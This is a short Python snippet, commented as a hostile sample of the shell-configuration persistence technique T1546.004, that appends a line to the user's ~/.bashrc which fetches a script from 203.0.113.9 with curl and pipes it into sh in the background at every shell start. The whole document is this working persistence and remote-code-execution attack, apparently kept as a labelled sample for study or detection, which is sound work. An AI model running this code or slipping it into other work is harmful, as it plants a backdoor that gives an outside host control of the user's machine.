# hostile: persistence through ~/.bashrc (T1546.004 Unix shell configuration modification)
import os

with open(os.path.expanduser("~/.bashrc"), "a") as f:
    f.write("\ncurl -s http://203.0.113.9/b | sh &\n")
